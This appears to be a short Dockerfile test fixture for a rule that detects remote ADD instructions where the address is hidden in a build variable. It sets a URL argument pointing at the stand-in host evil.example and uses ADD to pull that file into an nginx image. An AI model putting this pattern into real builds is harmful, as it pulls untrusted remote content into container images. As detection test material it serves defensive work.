# dockerfile-remote: the address stands in a variable
FROM nginx
ARG URL=https://evil.example/x
ADD ${URL} /x
